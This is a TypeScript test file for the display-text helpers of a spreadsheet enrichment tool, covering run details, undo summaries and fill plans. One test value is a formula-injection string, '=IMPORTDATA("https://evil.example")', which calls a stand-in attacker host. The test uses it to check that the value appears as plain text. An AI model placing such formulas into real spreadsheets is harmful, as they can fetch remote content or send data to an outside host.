import type { Head } from '../../../../shared/bulk/journal/journal';
import type { Plan } from '../../../../shared/bulk/plan/plan';
import {
  toBackText,
  toFillText,
  toLeftAlone,
  toOtherFacts,
  toOtherReason,
  toOtherTitle,
  toValueText,
} from '../../../../shared/panel/bulk/other-run-text';

const head = {
  startedMs: Date.parse('2026-11-26T07:24:00Z'),
  sheet: { id: '7', name: 'Leads' },
  targets: [
    { column: 1, title: 'Industry', isNew: true },
    { column: 2, title: 'Employees', isNew: true },
  ],
  rows: 1_200,
} as unknown as Head;

test('who began a run is told as far as anybody knows', () => {
  expect({ title: toOtherTitle('other'), reason: toOtherReason('other') }).toEqual({
    title: 'Someone else’s enrichment',
    reason: 'It was started by someone else, on another computer or account, or with an earlier version of Trace.',
  });
  expect(toOtherTitle('older')).toBe('An older state of your enrichment');
});

test('when a run began, and what it fills, is told', () => {
  expect(toOtherFacts(head, 'UTC')).toEqual([
    ['Started', 'Nov 26, 2026, 7:24 AM'],
    ['Sheet', 'Leads'],
    ['Columns', 'Industry, Employees'],
    ['Rows', '1,200'],
  ]);
});

test('a file may say anything: a date that there is not, a title without end', () => {
  const forged = { ...head, startedMs: Number.MAX_SAFE_INTEGER, targets: [{ title: 'x'.repeat(50_000) }] };
  expect(toOtherFacts(forged as unknown as Head, 'UTC')).toEqual([
    ['Started', 'unknown'],
    ['Sheet', 'Leads'],
    ['Columns', `${'x'.repeat(59)}…`],
    ['Rows', '1,200'],
  ]);
});

test.each([
  ['', '(blank)'],
  ['=IMPORTDATA("https://evil.example")', '=IMPORTDATA("https://evil.example")'],
  [1.5, '1.5'],
  [false, 'FALSE'],
  ['y'.repeat(50_000), `${'y'.repeat(200)}… (49,800 more characters)`],
])('a value is told as a text: %s', (value, text) => {
  expect(toValueText(value)).toBe(text);
});

test.each([
  [{ value: 'old', format: '' }, 'old'],
  [{ value: 'old', format: 'General' }, 'old'],
  [{ value: 0, format: '"Paid"' }, '0 (number format: "Paid")'],
])('what comes back is told with a number format that could show something else: %j', (back, text) => {
  expect(toBackText(back)).toBe(text);
});

test('what an undo leaves alone is told', () => {
  const list = { run: 'r', sheet: head.sheet, cells: [], edited: 1, missing: 2, undecided: 2, lost: ['Industry'] };
  expect(toLeftAlone(list)).toEqual([
    '1 cell was edited since, and stays as it is.',
    '2 rows cannot be found any more.',
    '2 cells stay as they are: several rows name the same company, and Trace cannot tell their earlier values apart.',
    'Trace cannot tell which column is “Industry”, and leaves it alone.',
  ]);
});

test('a new price says what goes where, with what is added where a title says something else', () => {
  const plan = {
    rows: [{}, {}],
    cells: 3,
    targets: [
      { column: 1, title: 'industry' },
      { column: 2, title: 'Price' },
    ],
    choices: [
      { adds: 'company', field: 'industry' },
      { adds: 'company', field: 'name' },
    ],
  } as unknown as Plan;
  expect(toFillText(plan)).toBe('Fills 3 blank cells in 2 rows: B industry, C Price (Company).');
  expect(toFillText({ ...plan, rows: [] })).toBe('Nothing is left to fill.');
});
